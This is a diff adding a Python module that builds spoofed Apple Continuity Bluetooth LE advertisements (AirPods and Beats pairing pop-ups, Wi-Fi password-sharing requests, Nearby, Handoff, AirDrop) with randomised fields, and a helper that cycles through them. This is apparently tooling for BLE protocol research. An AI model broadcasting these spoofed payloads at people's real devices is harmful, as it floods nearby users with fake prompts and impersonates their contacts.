@@ -0,0 +1,187 @@
+# -*- coding: utf-8 -*-
+"""
+Catalog of spoofed Apple Continuity advertisements.
+
+Each entry of :data:`CATALOG` builds the raw advertising data (at most 31
+bytes) of one Continuity message type decoded by ble_read_state, with the
+layouts of :mod:`continuity` (AirPods and Beats proximity pairing, Wi-Fi
+password sharing, Nearby, Handoff, AirDrop). Fields that are not given
+are random, so every call gives a new advertisement::
+
+    data = build('airpods', left=80, right=90)
+    next_payload = cycle(['airpods', 'nearby', 'wifi_password'])
+
+Run ``python3 continuity_payloads.py`` to print one advertisement of each
+type and its decoding.
+"""
+
+import os
+import random
+import struct
+from functools import partial
+from hashlib import sha256
+
+try:
+    from .continuity import (AIRDROP, AIRPODS, HANDOFF, NEARBY, WIFI_JOIN,
+                             AD_TYPE_MANUFACTURER_DATA, APPLE_COMPANY_ID)
+except ImportError:
+    from continuity import (AIRDROP, AIRPODS, HANDOFF, NEARBY, WIFI_JOIN,
+                            AD_TYPE_MANUFACTURER_DATA, APPLE_COMPANY_ID)
+
+__all__ = ('CATALOG', 'PROXIMITY_MODELS', 'build', 'cycle', 'random_static_address',
+           'airpods', 'wifi_password', 'nearby', 'handoff', 'airdrop')
+
+MAX_ADV_DATA = 31
+
+# AD flags: LE General Discoverable, BR/EDR not supported (+ simultaneous
+# LE and BR/EDR bits). ble_read_state tells iPhones (0x1a) from Macs (0x06)
+# by this byte.
+FLAGS_IPHONE = 0x1a
+FLAGS_MAC = 0x06
+
+# proximity pairing model ids known to ble_read_state
+PROXIMITY_MODELS = {
+    'airpods': 0x0220,
+    'powerbeats3': 0x0320,
+    'beatsx': 0x0520,
+    'beats_solo3': 0x0620,
+}
+# proximity pairing states (UTP) shown by ble_read_state
+_AIRPODS_STATES = (0x01, 0x0b, 0x2b, 0x21, 0x31, 0x50, 0x55, 0x70, 0x75)
+# Nearby action codes and Wi-Fi/OS codes shown by ble_read_state
+_NEARBY_STATES = (0x03, 0x05, 0x07, 0x09, 0x0b, 0x0d, 0x0e, 0x11, 0x1b, 0x47, 0x4b, 0x4e, 0x57, 0x5b, 0x67, 0x6e)
+_NEARBY_WIFI = (0x00, 0x04, 0x0c, 0x10, 0x18, 0x1a, 0x1c, 0x1e)
+
+
+def _rand(size):
+    return os.urandom(size)
+
+
+def _hash(value, size):
+    """First ``size`` bytes of SHA256(value), or random bytes if value is None."""
+    if value is None:
+        return _rand(size)
+    return sha256(value.encode('utf-8')).digest()[:size]
+
+
+def _frame(msg_type, body, flags=FLAGS_IPHONE, extra=b''):
+    """Wrap one Continuity message in AD flags + Apple manufacturer data."""
+    message = bytes((msg_type, len(body))) + body + extra
+    data = bytes((len(message) + 3, AD_TYPE_MANUFACTURER_DATA)) + APPLE_COMPANY_ID + message
+    if flags is not None:
+        data = bytes((0x02, 0x01, flags)) + data
+    if len(data) > MAX_ADV_DATA:
+        raise ValueError('advertisement too long (%d bytes)' % len(data))
+    return data
+
+
+def airpods(model=PROXIMITY_MODELS['airpods'], left=None, right=None, case=None, state=None, color=None):
+    """
+    Proximity pairing (AirPods / Beats pop-up).
+
+    :param left: Left bud charge in % (rounded down to 10%).
+    :param right: Right bud charge in %.
+    :param case: Case charge in %.
+    :param state: UTP byte (buds in/out, lid open...).
+    :param color: Color code (see ``proximity_colors`` in ble_read_state).
+    """
+    def level(value):
+        return random.randint(1, 10) if value is None else min(value // 10, 10)
+
+    battery1 = (level(left) << 4) | level(right)
+    battery2 = level(case)
+    body = struct.pack('>BHBBBBBB', 0x01, model,
+                       random.choice(_AIRPODS_STATES) if state is None else state,
+                       battery1, battery2, random.randint(0, 255),
+                       random.randint(0, 0x0c) if color is None else color, 0x00) + _rand(16)
+    # exactly 31 bytes: no room for the flags
+    return _frame(AIRPODS, body, flags=None)
+
+
+def wifi_password(ssid=None, phone=None, email=None, appleid=None):
+    """Wi-Fi password sharing request (what adv_wifi.py sends)."""
+    body = (bytes((0xc0, 0x08)) + b'\xff\xff\xff' + _hash(appleid, 3) + _hash(phone, 3)
+            + _hash(email, 3) + _hash(ssid, 3))
+    # followed by a Nearby message, like a real request
+    return _frame(WIFI_JOIN, body, extra=bytes((NEARBY, 0x02, 0x0b, 0x0c)))
+
+
+def nearby(status=None, wifi=None, mac=False):
+    """Nearby Info (device state: lock screen, call, music...)."""
+    body = bytes((random.choice(_NEARBY_STATES) if status is None else status,
+                  random.choice(_NEARBY_WIFI) if wifi is None else wifi)) + _rand(3)
+    return _frame(NEARBY, body, flags=FLAGS_MAC if mac else FLAGS_IPHONE)
+
+
+def handoff(clipboard=0, seq=None):
+    """Handoff (activity continuation) with random encrypted data."""
+    body = struct.pack('>BHB', clipboard, random.randint(0, 0xffff) if seq is None else seq,
+                       random.randint(0, 255)) + _rand(10)
+    return _frame(HANDOFF, body, flags=FLAGS_MAC)
+
+
+def airdrop(appleid=None, phone=None, email=None, email2=None):
+    """AirDrop discovery with truncated contact hashes."""
+    body = (bytes(8) + b'\x01' + _hash(appleid, 2) + _hash(phone, 2) + _hash(email, 2)
+            + _hash(email2, 2) + b'\x00')
+    return _frame(AIRDROP, body)
+
+
+# name -> builder(**fields)
+CATALOG = dict(
+    [(name, partial(airpods, model=model)) for name, model in PROXIMITY_MODELS.items()]
+    + [('wifi_password', wifi_password), ('nearby', nearby), ('handoff', handoff), ('airdrop', airdrop)])
+
+
+def build(name, **fields):
+    """:returns: advertising data (``bytes``) of catalog entry ``name``."""
+    try:
+        builder = CATALOG[name]
+    except KeyError:
+        raise ValueError('unknown payload %r (known: %s)' % (name, ', '.join(sorted(CATALOG))))
+    return builder(**fields)
+
+
+def cycle(names, fields=None):
+    """
+    :param fields: Optional ``{name: {field: value}}`` passed to the builders.
+    :returns: callable giving the next payload, going round ``names`` and
+        building a fresh (randomised) advertisement every time.
+    """
+    for name in names:
+        if name not in CATALOG:
+            raise ValueError('unknown payload %r' % name)
+    fields = fields or {}
+    state = {'i': 0}
+
+    def next_payload():
+        name = names[state['i'] % len(names)]
+        state['i'] += 1
+        return build(name, **fields.get(name, {}))
+
+    return next_payload
+
+
+def random_static_address():
+    """Random static device address: two top bits set, rest not all 0 or 1."""
+    while True:
+        address = bytearray(_rand(6))
+        address[0] |= 0xc0
+        # the 46 random bits
+        bits = int.from_bytes(address, 'big') & ((1 << 46) - 1)
+        if bits not in (0, (1 << 46) - 1):
+            return bytes(address)
+
+
+if __name__ == '__main__':
+    try:
+        from .continuity import decode_continuity
+    except ImportError:
+        from continuity import decode_continuity
+
+    for name in CATALOG:
+        data = build(name)
+        header, records = decode_continuity(data)
+        print('%-13s %2d bytes %s' % (name, len(data), data.hex()))
+        for record in records.values():
+            print('              %r' % (record,))